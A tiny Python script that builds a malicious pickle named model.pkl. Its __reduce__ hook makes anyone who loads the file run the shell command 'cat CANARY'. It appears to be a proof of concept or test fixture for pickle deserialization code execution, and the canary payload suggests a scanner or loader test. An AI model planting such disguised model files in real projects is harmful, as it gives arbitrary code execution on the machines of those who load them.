import pickle

class Trick:
    def __reduce__(self):
        import os
        return (os.system, ("cat CANARY",))

with open("model.pkl", "wb") as f:
    pickle.dump(Trick(), f)
